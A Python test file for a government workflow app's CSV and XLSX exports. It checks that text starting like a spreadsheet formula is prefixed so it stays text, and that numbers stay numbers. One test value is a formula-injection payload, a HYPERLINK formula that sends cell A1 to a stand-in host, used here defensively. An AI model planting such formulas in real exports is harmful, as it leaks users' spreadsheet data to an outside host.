"""Issue 13 item 2: text that looks like a formula leaves govflow as text, in every CSV
and XLSX it writes (engine/documents/spreadsheet.py), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from click.testing import CliRunner

from engine.core.config import Settings
from engine.core.office import load_office
from engine.documents.complaint_report import CaseLine, ComplaintReport
from engine.documents.report_files import report_file
from engine.documents.spreadsheet import safe_cell
from engine.services.inbox import instances
from engine.services.publishing.register import Period, log_csv, publication_log
from tests.samples import PUBLISHING_REQUEST

pytest_plugins = ("tests.web_support",)

FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
NEUTRAL = "'" + FORMULA


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _cells(text: str) -> set[str]:
    return {cell for row in _rows(text) for cell in row}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", [-5, 0, 3.5, -2.25, Decimal("-1.5"), None, True,
                                   "ร้องเรียน", "1 ตุลาคม 2569", "a=b", ""])
def test_numbers_and_plain_text_are_untouched(value):
    assert safe_cell(value) is value


def _publish_formula(rt, who) -> int:
    return instances.start_instance(rt, who, "publishing",
                                    {**PUBLISHING_REQUEST, "title": FORMULA})["id"]


def test_publication_log_csv_neutralises_a_formula_title(runtime, people):
    case = _publish_formula(runtime, people.staff)
    text = log_csv(publication_log(runtime, people.web_admin, Period()))
    assert NEUTRAL in _cells(text) and FORMULA not in _cells(text)
    row = next(r for r in _rows(text) if r and r[0] == str(case))
    assert row[1] == NEUTRAL


def test_publication_log_page_and_cli_neutralise_it(sqlite_runtime, web_people, browser,
                                                    tmp_path, monkeypatch):
    _publish_formula(sqlite_runtime, web_people.staff)
    download = browser("web_admin").get("/reports/publications?format=csv")
    assert download.status_code == 200
    assert NEUTRAL in _cells(download.get_data(as_text=True))
    assert FORMULA not in _cells(download.get_data(as_text=True))

    monkeypatch.setenv("GOVFLOW_INSTANCE_DIR", str(tmp_path / "instance"))
    monkeypatch.setenv("GOVFLOW_DATABASE_URL", "")
    from webui.cli import main

    shown = CliRunner().invoke(main, ["report", "publications"])
    assert shown.exit_code == 0, shown.output
    assert NEUTRAL in _cells(shown.output) and FORMULA not in _cells(shown.output)
    out = tmp_path / "log.csv"
    written = CliRunner().invoke(main, ["report", "publications", "-o", str(out)])
    assert written.exit_code == 0, written.output
    assert NEUTRAL in _cells(out.read_text(encoding="utf-8-sig"))


def _report_with_formula_type() -> ComplaintReport:
    cases = [CaseLine(instance_id=7, received_on=date(2026, 10, 5), channel="website",
                      complaint_type="evil", status="in_progress", triage_working_days=2),
             CaseLine(instance_id=8, received_on=date(2026, 11, 2), channel="letter",
                      complaint_type="evil", status="completed", triage_working_days=None)]
    return ComplaintReport(2570, 1, date(2026, 10, 1), date(2027, 3, 31), cases=cases,
                           type_titles={"evil": FORMULA})


def test_complaints_report_csv_neutralises_a_formula_and_keeps_numbers():
    content = report_file(_report_with_formula_type(), "csv", None).content
    rows = _rows(content.decode("utf-8-sig"))
    assert NEUTRAL in {cell for row in rows for cell in row}
    assert FORMULA not in {cell for row in rows for cell in row}
    case_row = next(r for r in rows if r and r[0] == "7")
    assert case_row[3] == NEUTRAL and case_row[5] == "2"
    assert [NEUTRAL, "2"] in rows  # the count by type: its number is not prefixed


def test_complaints_report_xlsx_writes_the_formula_as_text_and_numbers_as_numbers():
    content = report_file(_report_with_formula_type(), "xlsx", load_office(Settings())).content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if c.value == FORMULA]
    assert len(texts) == 3 and all(c.data_type == "s" for c in texts)  # by type, two cases
    by_type = next(c for c in texts if c.parent.title == "สรุป")
    count = by_type.parent.cell(row=by_type.row, column=by_type.column + 1)
    assert count.value == 2 and count.data_type == "n"
    number = next(c for c in cells if c.parent.title == "รายการเรื่อง" and c.value == 7)
    assert number.data_type == "n"
    assert not any(sheet._hyperlinks for sheet in workbook)  # noqa: SLF001 - no link either
